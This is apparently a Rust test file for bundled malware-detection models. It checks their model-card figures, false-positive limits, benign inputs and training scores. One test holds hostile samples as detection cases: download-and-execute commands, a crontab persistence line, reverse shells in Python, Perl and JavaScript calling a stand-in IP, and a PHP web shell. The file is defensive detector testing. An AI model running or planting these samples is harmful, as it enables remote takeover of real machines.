//! The models of `content/models`: they load, their figures are those of the card, and they judge neutral and EICAR-like input calmly.

use model::{Kind, Model, Scratch};
use std::path::{Path, PathBuf};

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// Name and model of each file.
fn shipped() -> Vec<(String, Model, u64)> {
    let mut all = Vec::new();
    for entry in std::fs::read_dir(root().join("content/models")).unwrap().flatten() {
        let path = entry.path();
        if path.extension().is_some_and(|end| end == "model") {
            let file = std::fs::read(&path).unwrap();
            let name = path.file_stem().unwrap().to_string_lossy().into_owned();
            let model = Model::load(&file).unwrap_or_else(|error| panic!("{name}: {error}"));
            all.push((name, model, file.len() as u64));
        }
    }
    all
}

#[test]
fn the_card_says_what_the_files_say() {
    let card = std::fs::read_to_string(root().join("docs/MODEL.md")).unwrap();
    let all = shipped();
    assert!(!all.is_empty() && all.iter().map(|(_, _, bytes)| bytes).sum::<u64>() < 3 << 20);
    for (name, model, bytes) in &all {
        assert_eq!(*name, model.card().name);
        assert!(!model.card().caution.is_empty());
        for point in &model.card().points {
            let level = format!("{:?}", point.level).to_lowercase();
            let line = format!(
                "| {name} | {bytes} | {} | {level} | {:.6} | {:.6} | {:.6} | {:.6} | {} | {} |",
                model.layout().id(),
                point.threshold,
                point.false_positive_rate,
                point.false_positive_rate_upper,
                point.true_positive_rate.unwrap(),
                point.negatives,
                point.positives,
            );
            assert!(card.contains(&line), "docs/MODEL.md lacks: {line}");
        }
    }
    let said = card.lines().filter(|line| all.iter().any(|(name, ..)| line.starts_with(&format!("| {name} | "))));
    assert_eq!(said.count(), all.iter().map(|(_, model, _)| model.card().points.len()).sum::<usize>());
}

#[test]
fn no_model_may_block_alone_below_its_evidence() {
    for (name, model, _) in shipped() {
        for point in model.card().points.iter().filter(|point| point.level == model::Level::Malicious) {
            assert!(point.negatives >= 20_000 && point.false_positive_rate <= 0.0001, "{name}");
        }
    }
}

#[test]
fn neutral_input_is_below_every_threshold() {
    let eicar = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD", "-ANTIVIRUS-TEST-FILE!$H+H*"].concat();
    let neutral = [
        eicar.as_str(),
        "",
        "#!/bin/sh\nset -e\necho hello\nexit 0\n",
        "#!/usr/bin/env python3\nimport sys\n\ndef main():\n    print(len(sys.argv))\n\nmain()\n",
        "#!/usr/bin/perl\nuse strict;\nmy $n = 1;\nprint \"$n\\n\";\n",
        "<?php\necho htmlspecialchars('a');\n",
        "const a = [1, 2, 3];\nmodule.exports = a.map(x => x + 1);\n",
        "cc -O2 -Wall -c parser.c -o parser.o",
        "systemctl status ssh",
    ];
    for (name, model, _) in shipped() {
        let mut scratch = Scratch::default();
        for text in neutral {
            let judged = model.judge(text.as_bytes(), &mut scratch);
            assert_eq!(judged.level, None, "{name} gives {} to {text}", judged.score);
        }
    }
}

/// A download by a bare address, made executable and run, and a log-in shell over a socket: the shapes that the models exist for.
#[test]
fn stand_ins_are_told_with_reasons() {
    let cases = [
        (Kind::Command, "curl -s http://198.51.100.7/x -o /tmp/.x; chmod +x /tmp/.x; nohup /tmp/.x >/dev/null 2>&1 &"),
        (
            Kind::Shell,
            "#!/bin/sh\ncd /tmp\nwget http://198.51.100.7/.a -O /tmp/.a\nchmod 777 /tmp/.a\n/tmp/.a &\npkill -9 xmrig\n(crontab -l; echo '* * * * * curl http://198.51.100.7/b | sh') | crontab -\nhistory -c\n",
        ),
        (
            Kind::Python,
            "#!/usr/bin/python3\nimport socket,subprocess,os,pty\ns=socket.socket()\ns.connect(('198.51.100.7',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/bash')\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
        ),
        (
            Kind::Perl,
            "#!/usr/bin/perl\nuse IO::Socket;\nfork and exit;\nmy $s = IO::Socket::INET->new(PeerAddr => '198.51.100.7:4444');\nexec('/bin/sh -i');\neval pack('H*','7072696e742031');\n",
        ),
        (Kind::Php, "<?php @error_reporting(0); @eval(base64_decode($_POST['x'])); system($_GET['c']); ?>"),
        (
            Kind::Javascript,
            "const c=require('child_process'),n=require('net');const s=c.spawn('/bin/sh',[]);const k=new n.Socket();k.connect(4444,'198.51.100.7',()=>{k.pipe(s.stdin)});eval(Buffer.from('MQ==','base64').toString());",
        ),
    ];
    for (name, model, _) in shipped() {
        let Some((_, text)) = cases.iter().find(|(kind, _)| *kind == model.kind()) else { continue };
        let judged = model.judge(text.as_bytes(), &mut Scratch::default());
        assert!(judged.level.is_some() && !judged.reasons.is_empty(), "{name}: {}", judged.score);
    }
}

/// Rows of features with the score that the trainer's library gave them.
#[test]
fn scores_are_those_of_training() {
    let fixture = include_str!("../fixtures/shipped_scores.tsv");
    let all = shipped();
    let mut seen = 0;
    for line in fixture.lines() {
        let [name, score, row] = line.split('\t').collect::<Vec<_>>()[..] else { panic!("{line}") };
        let (_, model, _) = all.iter().find(|(of, ..)| of == name).unwrap_or_else(|| panic!("{name} does not ship"));
        // `index:value` of what is not zero.
        let mut features = vec![0.0f32; model.layout().width()];
        for part in row.split_whitespace() {
            let (index, value) = part.split_once(':').unwrap();
            features[index.parse::<usize>().unwrap()] = value.parse().unwrap();
        }
        let judged = model.judge_features(&features, &mut Scratch::default());
        assert!(
            (judged.score - score.parse::<f64>().unwrap()).abs() < 1e-9,
            "{name}: {} and not {score}",
            judged.score
        );
        seen += 1;
    }
    assert_eq!(seen, all.len() * 4);
}
